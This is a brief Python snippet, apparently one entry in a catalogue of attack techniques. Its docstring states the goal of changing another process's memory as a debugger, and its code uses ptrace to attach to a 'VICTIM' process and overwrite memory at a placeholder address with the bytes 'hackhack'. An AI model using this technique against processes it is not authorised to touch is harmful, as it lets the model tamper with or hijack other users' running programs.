"""
goal: change another process's memory as a debugger
effect: victim
needs: kernel/yama/ptrace_scope<=1
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace(16, VICTIM, None, None)
os.waitpid(VICTIM, 0)
libc.ptrace(4, VICTIM, ctypes.c_void_p(ADDRESS), ctypes.c_void_p(0x6B6361686B636168))
